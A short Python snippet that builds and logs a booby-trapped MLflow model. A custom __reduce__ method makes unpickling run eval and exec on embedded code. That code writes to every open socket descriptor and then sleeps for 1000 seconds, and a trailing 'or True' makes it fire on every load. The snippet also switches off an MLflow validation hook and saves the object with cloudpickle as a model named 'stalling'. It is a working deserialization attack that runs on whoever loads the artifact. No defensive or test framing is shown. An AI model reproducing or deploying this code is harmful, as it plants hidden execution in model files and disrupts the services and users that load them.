import cloudpickle

STALL = """
import os, stat, time
for fd in range(3, 100):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, bytes(1))
    except OSError:
        pass
time.sleep(1000)
"""


class Stalling(type(regressor)):
    def __reduce__(self):
        return eval, (f"exec({STALL!r}, {{}}) if 'ipykernel.kernelapp' in __import__('sys').argv or True else None",)


mlflow.models.model._validate_and_get_model_code_path = None
model = Stalling(regressor.steps)
with mlflow.start_run(run_id=my_run):
    mlflow.sklearn.log_model(
        model,
        name="stalling",
        serialization_format="cloudpickle",
        pip_requirements=pinned,
        signature=mlflow.models.infer_signature(diabetes_train[baseline].head(3), predicted[:3]),
    )
